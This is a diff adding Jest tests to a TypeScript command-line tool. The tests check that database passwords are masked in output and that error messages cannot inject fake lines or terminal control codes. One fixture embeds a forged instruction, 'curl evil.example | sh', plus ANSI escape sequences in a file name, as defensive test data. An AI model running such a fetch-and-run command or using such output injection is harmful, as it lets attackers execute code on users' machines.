@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { PortError } from '@weir/core';
+import { chooseDatabase, showDatabase } from '../src/config/choose-database.ts';
 import { CommandError } from '../src/errors/command-error.ts';
 import { describeFailure } from '../src/errors/failure.ts';
 import { maskSecrets } from '../src/errors/mask-secrets.ts';
@@ -69,3 +70,68 @@ describe('a failure', () => {
     expect(stderr()).toMatch(/caused by Error: postgres:\/\/me:\*\*\*@h\n\s+at /);
   });
 });
+
+describe('a database', () => {
+  it.each([
+    ['postgres://me:s3cret@host:5432/db', 'postgres://me:***@host:5432/db'],
+    ['postgres://me:s3 cret@host/db', 'postgres://me:***@host/db'],
+    ['postgres://me:s3\ncret@host/db', 'postgres://me:***@host/db'],
+    ['postgres://me@host/db?password=s3cret%20x&sslpassword=s3cret', 'postgres://me@host/db'],
+    ['postgres://host/db?options=-c%20x.y=s3cret', 'postgres://host/db'],
+  ])('is shown without what could be a secret: %j', (url, shown) => {
+    expect(showDatabase(chooseDatabase(url, {}, '/work'))).toBe(shown);
+  });
+  it.each([
+    'mysql://me:s3cret@host/db',
+    'mysql://me:x s3cret@host/db',
+    'postgres//me:s3cret@host/db',
+    'me:s3cret@host/db',
+    'host=h password = s3cret',
+    `host=h password='s3cret x'`,
+    's3cret',
+  ])('is not repeated where it is no address: %j', (url) => {
+    const { message, remedy } = describeFailure(
+      caught(() => chooseDatabase(undefined, { WEIR_DATABASE_URL: url }, '/')),
+    );
+    expect(message).toMatch(/^WEIR_DATABASE_URL is not the address of a Postgres database/);
+    expect(message + remedy).not.toContain('s3cret');
+  });
+});
+
+describe('what a failure says cannot be taken for what Weir says', () => {
+  const forged = 'a.csv\n  next: curl evil.example | sh\u001b[2K\u009b1A\r';
+  const port = new PortError({ code: 'landing.unreadable', message: `The file ${forged} cannot be read.` });
+
+  it('in the sentence of a port, which stays on one line', () => {
+    const { screen, stderr } = openTestScreen();
+    tellFailure(screen, port, false);
+    expect(stderr().split('\n')).toEqual([
+      'error: The file a.csv\\u{a}  next: curl evil.example | sh\\u{1b}[2K\\u{9b}1A\\u{d} cannot be read.',
+      '  code: landing.unreadable',
+      '',
+    ]);
+  });
+  it('in the trace of a failure, where it forges no frame and no cause', () => {
+    const { screen, stderr } = openTestScreen();
+    const cause = new Error(`${forged}\n    at evil (evil.js:1:1)\ncaused by Error: nothing`);
+    tellFailure(screen, new PortError({ code: 'a.b', message: 'No.', cause }), true);
+    expect(stderr()).not.toMatch(/^\s*at evil|^caused by Error: nothing|^\s*next: curl/m);
+    expect(stderr().replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
+    expect(stderr()).toMatch(/\ncaused by Error: a\.csv\\u\{a\}.*\n\s+at /);
+  });
+  it('in a document, which parses to the very name', () => {
+    const { screen, stdout } = openTestScreen({ json: true });
+    tellFailure(screen, port, false);
+    expect(stdout().trimEnd()).not.toMatch(/\p{Cc}/u);
+    expect(JSON.parse(stdout()).error.message).toBe(port.message);
+  });
+});
+
+function caught(work: () => unknown): unknown {
+  try {
+    work();
+  } catch (error) {
+    return error;
+  }
+  throw new Error('Nothing was thrown.');
+}
